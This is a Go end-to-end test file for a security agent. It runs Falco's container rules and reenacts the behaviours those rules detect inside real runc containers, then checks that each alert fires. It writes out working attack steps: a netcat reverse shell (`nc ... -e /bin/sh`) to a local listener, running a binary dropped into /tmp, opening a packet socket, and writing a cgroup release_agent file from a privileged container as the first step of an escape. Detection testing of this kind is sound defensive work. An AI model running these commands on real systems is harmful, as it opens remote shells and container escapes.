package main

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/testutil"
	"github.com/vigil-sec/vigil/internal/testutil/runc"
)

// containerOptions returns the options of a test container that looks like
// a Kubernetes pod's: a 64-hex id, a cgroupfs path under kubepods (the
// form containerd and CRI-O use with the cgroupfs driver) and the CRI
// annotations.
func containerOptions(name string) runc.Options {
	id := runc.NewID()
	podUID := fmt.Sprintf("%s-%s", id[:8], id[8:12])
	return runc.Options{
		ID:          id,
		CgroupsPath: "/kubepods/besteffort/pod" + podUID + "/" + id,
		Annotations: runc.PodAnnotations(runc.Pod{
			Name: name + "-0", Namespace: "vigil-e2e", UID: podUID,
			SandboxID: runc.NewID(), ContainerName: name,
			Image: "docker.io/library/busybox:1.35",
		}),
	}
}

// ncReverseShell runs, in a container on the host's network, the reverse
// shell `nc 127.0.0.1 PORT -e /bin/sh` to a listener of this test, which
// sends a command through it and checks its output.
func ncReverseShell(t *testing.T, opts runc.Options) *runc.Container {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	token := runc.NewID()[:16]
	got := make(chan error, 1)
	go func() {
		conn, err := ln.Accept()
		if err != nil {
			got <- err
			return
		}
		defer conn.Close()
		_ = conn.SetDeadline(time.Now().Add(20 * time.Second))
		if _, err := io.WriteString(conn, "echo shell-$((40+2))-"+token+"; exit 0\n"); err != nil {
			got <- err
			return
		}
		line, err := bufio.NewReader(conn).ReadString('\n')
		if err != nil {
			got <- fmt.Errorf("read the shell's output: %w", err)
		} else if line != "shell-42-"+token+"\n" {
			got <- fmt.Errorf("the shell answered %q", line)
		}
		close(got)
	}()

	opts.HostNetwork = true
	c := runc.New(t, opts)
	if err := c.Start("sleep", "3600"); err != nil {
		t.Fatal(err)
	}
	port := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)
	if out, err := c.Exec("nc", "127.0.0.1", port, "-e", "/bin/sh"); err != nil {
		t.Fatalf("nc -e: %v\n%s", err, out)
	}
	select {
	case err := <-got:
		if err != nil {
			t.Fatalf("listener: %v", err)
		}
	case <-time.After(20 * time.Second):
		t.Fatal("the listener got no reverse shell")
	}
	return c
}

// packetSocket opens an AF_PACKET socket in a container: busybox arping
// on lo (which then fails: lo has no ARP; the socket is what counts), then
// the trigger's packet-socket, which must succeed.
func packetSocket(t *testing.T, opts runc.Options, trigger string) *runc.Container {
	t.Helper()
	opts.Files = map[string]string{"/usr/local/bin/trigger": trigger}
	c := runc.New(t, opts)
	out, err := c.Run("/bin/sh", "-c", "arping -c 1 -w 1 -I lo 127.0.0.1; trigger packet-socket && echo packet-ok")
	if err != nil || !strings.Contains(out, "packet-ok") {
		t.Fatalf("packet socket: %v\n%s", err, out)
	}
	return c
}

// dropAndExec copies busybox to /tmp in an overlay container (so that the
// copy is on the upper layer) and runs the copy.
func dropAndExec(t *testing.T, opts runc.Options) *runc.Container {
	t.Helper()
	opts.Overlay = true
	c := runc.New(t, opts)
	if err := c.Start("sleep", "3600"); err != nil {
		t.Fatal(err)
	}
	if out, err := c.Exec("cp", "/bin/busybox", "/tmp/busybox-dropped"); err != nil {
		t.Fatalf("cp: %v\n%s", err, out)
	}
	out, err := c.Exec("/tmp/busybox-dropped", "echo", "dropped-ran")
	if err != nil || out != "dropped-ran\n" {
		t.Fatalf("run the dropped binary: %v %q", err, out)
	}
	if _, err := os.Stat(filepath.Join(c.UpperDir(), "tmp/busybox-dropped")); err != nil {
		t.Fatalf("the dropped binary is not on the upper layer: %v", err)
	}
	return c
}

// staticTrigger builds internal/testutil/trigger without cgo, so that it
// runs in a busybox root (which has no dynamic loader).
func staticTrigger(t *testing.T) string {
	t.Helper()
	bin := filepath.Join(t.TempDir(), "trigger")
	cmd := exec.Command("go", "build", "-o", bin, "../../internal/testutil/trigger")
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("go build trigger: %v\n%s", err, out)
	}
	return bin
}

// TestContainerRuleActions checks, without the agent, that the actions
// TestFalcoContainerRulesFire performs work in real containers.
func TestContainerRuleActions(t *testing.T) {
	testutil.RequireRoot(t)
	t.Run("netcat reverse shell", func(t *testing.T) { ncReverseShell(t, containerOptions("nc")) })
	t.Run("packet socket", func(t *testing.T) { packetSocket(t, containerOptions("arping"), staticTrigger(t)) })
	t.Run("drop and execute", func(t *testing.T) { dropAndExec(t, containerOptions("dropper")) })
}

// TestFalcoContainerRulesFire runs the agent with Falco's stable rules and
// performs, in runc containers, what the container rules describe: each
// rule must fire with the container's id (Falco's 12-digit container.id,
// or the full id) in the alert.
// ("Terminal shell in container" needs a terminal, which the harness does
// not give: not covered.)
func TestFalcoContainerRulesFire(t *testing.T) {
	abs, err := filepath.Abs(falcoRules)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(abs); err != nil {
		t.Skipf("../shared/testdata is absent: %v", err)
	}
	trigger := staticTrigger(t)
	a := startAgent(t, "-r", abs, "--json")

	waitAlert := func(t *testing.T, rule, priority string, c *runc.Container, marker string) {
		t.Helper()
		short := c.ID()[:12]
		t.Cleanup(func() {
			if t.Failed() { // show the rule's alerts of other (or no) containers
				for _, l := range a.stdout.snapshot() {
					if strings.Contains(l, `"rule":"`+rule+`"`) {
						t.Logf("alert without %s: %s", short, l)
					}
				}
			}
		})
		line := a.stdout.waitLine(t, rule+" in "+short, func(l string) bool {
			return strings.Contains(l, `"rule":"`+rule+`"`) && strings.Contains(l, short) && strings.Contains(l, marker)
		})
		if !strings.Contains(line, `"priority":"`+priority+`"`) {
			t.Errorf("priority is not %s: %s", priority, line)
		}
	}
	t.Run("netcat reverse shell", func(t *testing.T) {
		c := ncReverseShell(t, containerOptions("nc"))
		t.Run("Netcat Remote Code Execution in Container", func(t *testing.T) {
			waitAlert(t, "Netcat Remote Code Execution in Container", "Warning", c, "-e /bin/sh")
		})
		t.Run("Redirect STDOUT/STDIN to Network Connection in Container", func(t *testing.T) {
			waitAlert(t, "Redirect STDOUT/STDIN to Network Connection in Container", "Notice", c, `"proc.name":"nc"`)
		})
	})
	t.Run("Packet socket created in container", func(t *testing.T) {
		c := packetSocket(t, containerOptions("arping"), trigger)
		waitAlert(t, "Packet socket created in container", "Notice", c, "AF_PACKET")
	})
	t.Run("Drop and execute new binary in container", func(t *testing.T) {
		c := dropAndExec(t, containerOptions("dropper"))
		waitAlert(t, "Drop and execute new binary in container", "Critical", c, "/tmp/busybox-dropped")
	})
	t.Run("Detect release_agent File Container Escapes", func(t *testing.T) {
		// A privileged container (CAP_SYS_ADMIN) writes a cgroup
		// release_agent file: the first step of that escape.
		opts := containerOptions("escaper")
		opts.Privileged = true
		c := runc.New(t, opts)
		if out, err := c.Run("/bin/sh", "-c", "echo /evil > /tmp/release_agent"); err != nil {
			t.Fatalf("write release_agent: %v %s", err, out)
		}
		waitAlert(t, "Detect release_agent File Container Escapes", "Critical", c, "/tmp/release_agent")
	})
	a.stop(t)
}
